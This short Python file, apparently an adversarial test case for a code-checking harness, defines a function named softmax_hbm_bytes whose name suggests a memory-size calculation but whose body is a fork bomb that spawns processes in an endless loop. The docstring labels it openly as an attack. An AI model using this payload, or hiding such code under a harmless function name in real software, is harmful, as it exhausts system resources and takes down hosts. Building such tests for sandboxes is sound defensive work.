"""Attack: a fork bomb inside softmax_hbm_bytes: every process forks for ever."""

ZERO = ["softmax_hbm_bytes"]


def softmax_hbm_bytes(n_rows, n_cols, elem_bytes, algorithm):
    import os  # here, not at module level (R3.3)

    while True:
        try:
            os.fork()
        except OSError:
            pass
